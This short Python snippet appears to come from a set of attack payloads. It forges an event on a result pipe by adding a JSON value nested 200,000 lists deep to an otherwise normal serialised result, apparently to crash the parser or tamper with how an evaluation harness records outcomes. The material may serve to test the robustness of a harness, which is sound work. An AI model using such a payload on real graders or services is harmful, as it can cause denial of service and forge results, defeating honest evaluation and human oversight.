# Forges a result event on the result pipe: a value nested 200000 lists deep.
# uses: support/forge.py (the pipe finder and the relu that forges)


def PAYLOAD(ex, case):
    return _json.dumps(_call(ex, case))[:-1] + ", \"extra\": " + "[" * 200000 + "]" * 200000 + "}"
